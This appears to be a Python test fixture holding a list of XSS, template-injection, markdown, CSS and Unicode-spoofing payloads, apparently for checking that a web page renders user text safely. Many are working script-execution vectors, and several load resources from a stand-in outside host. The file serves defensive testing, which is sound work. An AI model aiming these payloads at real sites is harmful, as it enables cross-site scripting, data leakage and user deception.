"""Texts that try to become markup, script, template, style, link or another writing direction.

Each would set `window.pwned`, ask OUTSIDE for something, or spill over its neighbours, if any
part of the page took it for more than text.
"""

from __future__ import annotations

OUTSIDE = "http://outside.invalid"
_RUN = "window.pwned=1"

_SCRIPT = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src={OUTSIDE}/a.js></script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<script type="module">{_RUN}</script>',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
]
_HANDLERS = [
    f"<{tag} {event}={_RUN}>x"
    for tag, event in [
        ("img src=x", "onerror"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("div style='animation-name:x'", "onanimationstart"),
        ("iframe srcdoc=x", "onload"),
        ("style", "onload"),
        ("p tabindex=1", "onpointerover"),
    ]
] + [
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onerror=`{_RUN}`",
    f"x onclick={_RUN}//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x:x onerror\t=\t{_RUN}>",
]
_SVG = [
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'/></svg>",
    f"<svg><image href={OUTSIDE}/a.svg></svg>",
    f"<math><mtext></p><img src=x onerror={_RUN}></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
]
_TEMPLATES = [
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"\\${{{_RUN}}}",
    f"\\\\${{{_RUN}}}",
    f"\\`;{_RUN};`",
    "${1+1}",
    f"$${{{_RUN}}}",
    "{{value}}",
    "{{{value}}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    "{{#each value}}{{this}}{{/each}}",
    "{% for x in y %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "[[constructor]]",
    "@children",
    "{text} {count} {name}",
    '__i18n__{"__type__": "translation_metadata", "key": "ask.send"}',
    "\\",
    "\\\\",
    "\\n\\t\\x3cimg src=x onerror=window.pwned=1\\x3e",
    "$&$`$'$1$<x>",
    "__proto__",
    "constructor",
]
_MARKDOWN = [
    f"![x]({OUTSIDE}/a.png)",
    f"[x]({OUTSIDE})",
    f"[x](javascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"<{OUTSIDE}/auto>",
    f"[x]: {OUTSIDE}/ref\n![x]",
    f"![x][y]\n\n[y]: {OUTSIDE}/y.png",
    "# heading\n\n- item\n\n> quote",
    f"```js\n{_RUN}\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _it_ ~~no~~ $x^2$ \\(y\\) $$z$$",
    f"<form action={OUTSIDE}><input type=submit></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"javascript:{_RUN}",
    f"<iframe src={OUTSIDE}></iframe>",
    f"<object data={OUTSIDE}></object><embed src={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}/a.css>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
]
_STYLES = [
    f"<style>*{{background:url({OUTSIDE}/a)}}</style>",
    f"</style><style>@import '{OUTSIDE}/a.css';</style>",
    f"<div style=\"background:url('{OUTSIDE}/b')\">x</div>",
    f"x;}} body{{background:url({OUTSIDE}/c)}}",
    "<div style=position:fixed;inset:0>x</div>",
    "expression(window.pwned=1)",
]
_WRITING = [
    "\u202etxt.exe\u202c harmless",
    "\u2066\u202eabc\u2069 def",
    "\u2067עברית ${1+1} \u2069!",
    "مرحبا <img src=x onerror=window.pwned=1> بالعالم",
    "Рaypal (Cyrillic Р, a) аnd Ꮯitewell",
    "zero\u200bwidth\u200djoiner\ufeffmark",
    "e\u0301 \u1e9b\u0323 and Ω≠Ω",
    "😀👨‍👩‍👧‍👦🏳️‍🌈 then <b>bold</b>",
    "日本語の「引用」と<script>window.pwned=1</script>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "a" * 400,
    "line one\u2028line two\u2029line three",
]

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*_SCRIPT, *_HANDLERS, *_SVG, *_TEMPLATES, *_MARKDOWN, *_STYLES, *_WRITING])
)
